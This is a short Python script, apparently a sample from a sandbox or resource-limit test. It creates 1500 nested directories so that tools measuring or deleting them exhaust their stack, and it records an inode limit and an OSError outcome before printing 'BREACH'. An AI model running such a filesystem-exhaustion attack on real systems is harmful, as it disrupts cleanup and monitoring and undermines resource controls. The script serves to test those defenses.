"""Nests folders so deeply that whoever measures or removes them runs out of stack."""
# proof: more: inodes=5_000 files=64_000_000
# limits: inodes=600
# reason: ended with OSError
import os

for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
print("BREACH")
